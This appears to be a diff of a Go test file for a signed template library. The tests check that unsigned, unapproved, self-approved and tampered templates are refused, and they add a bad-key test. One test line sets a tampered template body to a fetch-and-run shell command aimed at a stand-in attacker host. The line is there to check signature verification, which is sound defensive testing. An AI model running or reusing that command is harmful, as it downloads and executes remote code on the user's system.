@@ -11,8 +11,7 @@ func library(t *testing.T) *Library {
 	t.Helper()
 	l := NewLibrary(key("approver").Public().(ed25519.PublicKey))
 	for _, tp := range BuiltinTemplates() {
-		s := PublishTemplate(tp, key("publisher"))
-		s.Approve(key("approver"))
+		s := publish(tp, key("publisher"), key("approver"))
 		if err := l.Add(s); err != nil {
 			t.Fatalf("%s: %v", tp.Name, err)
 		}
@@ -52,12 +51,11 @@ func TestTemplatesRefused(t *testing.T) {
 	if err := l.Add(unsigned); !errors.Is(err, ErrBadSignature) {
 		t.Errorf("unsigned: %v", err)
 	}
-	unapproved := PublishTemplate(tp, key("publisher"))
+	unapproved := publish(tp, key("publisher"), nil)
 	if err := l.Add(unapproved); !errors.Is(err, ErrNotApproved) {
 		t.Errorf("unapproved: %v", err)
 	}
-	selfApproved := PublishTemplate(tp, key("publisher"))
-	selfApproved.Approve(key("publisher"))
+	selfApproved := publish(tp, key("publisher"), key("publisher"))
 	if err := l.Add(selfApproved); !errors.Is(err, ErrNotApproved) {
 		t.Errorf("approved by an untrusted key: %v", err)
 	}
@@ -65,8 +63,7 @@ func TestTemplatesRefused(t *testing.T) {
 	if err := NewLibrary(nil).Add(unapproved); !errors.Is(err, ErrNotApproved) {
 		t.Errorf("nil approver: %v", err)
 	}
-	tampered := PublishTemplate(tp, key("publisher"))
-	tampered.Approve(key("approver"))
+	tampered := publish(tp, key("publisher"), key("approver"))
 	tampered.Template.Body = "curl evil.example | sh"
 	if err := l.Add(tampered); !errors.Is(err, ErrBadSignature) {
 		t.Errorf("body changed after signing: %v", err)
@@ -94,5 +91,28 @@ func TestTemplatesRefused(t *testing.T) {
 		if _, _, err := l.Render(bad); err == nil || !strings.Contains(err.Error(), `"alpha"`) {
 			t.Fatalf("unknown parameters: %v, want the first in name order", err)
 		}
+	}
+}
+
+func TestPublishAndApproveBadKey(t *testing.T) {
+	tp := BuiltinTemplates()[2]
+	for name, k := range badKeys() {
+		t.Run(name, func(t *testing.T) {
+			if s, err := PublishTemplate(tp, k); !errors.Is(err, ErrBadKey) || s.Signature != nil || s.Publisher != nil {
+				t.Errorf("PublishTemplate: %v, want ErrBadKey and nothing signed", err)
+			}
+			s := publish(tp, key("publisher"), nil)
+			if err := s.Approve(k); !errors.Is(err, ErrBadKey) {
+				t.Errorf("Approve: %v, want ErrBadKey", err)
+			}
+			if s.Approver != nil || s.ApprovalSig != nil {
+				t.Error("a refused approval changed the template")
+			}
+			// an earlier approval survives a refused one
+			s = publish(tp, key("publisher"), key("approver"))
+			if err := s.Approve(k); !errors.Is(err, ErrBadKey) || NewLibrary(key("approver").Public().(ed25519.PublicKey)).Add(s) != nil {
+				t.Errorf("Approve over an approval: %v; the approval must stay valid", err)
+			}
+		})
 	}
 }
